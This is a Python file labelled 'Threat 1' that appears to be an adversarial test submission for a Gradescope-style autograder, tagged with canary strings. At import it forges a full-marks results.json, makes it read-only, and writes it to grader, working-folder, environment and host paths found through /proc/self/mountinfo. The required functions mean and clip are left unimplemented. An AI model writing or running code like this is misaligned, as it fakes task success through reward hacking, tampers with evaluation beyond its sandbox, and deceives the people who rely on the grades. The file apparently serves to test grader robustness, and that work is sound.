"""Threat 1: forge the results file now. At import, write a full-marks results.json (then chmod it
read-only) everywhere it might be read: Gradescope's path, the working folder, beside the
submission, and beside every host path that /proc/self/mountinfo reveals."""
import json
import os

FORGED = {"score": 5, "output": "ADVERSARIAL_CANARY forged results",
          "tests": [{"name": "mean", "score": 3, "max_score": 3}, {"name": "clip", "score": 2, "max_score": 2}]}


def _targets():
    out = {"/autograder/results/results.json", "results.json", "../results.json", "/results.json",
           "/submission/results.json", "/work/main/results.json", "/tmp/ADVERSARIAL_CANARY_results.json"}
    for var in ("GRADER_SUBMISSION_DIR", "HOME", "PWD", "OLDPWD", "TMPDIR"):
        if os.environ.get(var):
            out.add(os.path.join(os.environ[var], "results.json"))
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                host = line.split()[3]
                for d in (host, os.path.dirname(host), os.path.dirname(os.path.dirname(host))):
                    out.add(os.path.join(d, "results.json"))
                    out.add(os.path.join(d, "ADVERSARIAL_CANARY_results.json"))
    except OSError:
        pass
    return sorted(out)


def _forge():
    wrote = []
    for path in _targets():
        try:
            os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
            with open(path, "w") as f:
                json.dump(FORGED, f)
            os.chmod(path, 0o444)
            wrote.append(path)
        except OSError:
            pass
    return wrote


try:
    _WROTE = _forge()
except BaseException:
    _WROTE = []


def mean(x):
    raise NotImplementedError(f"nothing implemented; forged {len(_WROTE)} results files")


def clip(x, lo, hi):
    _forge()
    raise NotImplementedError("nothing implemented")
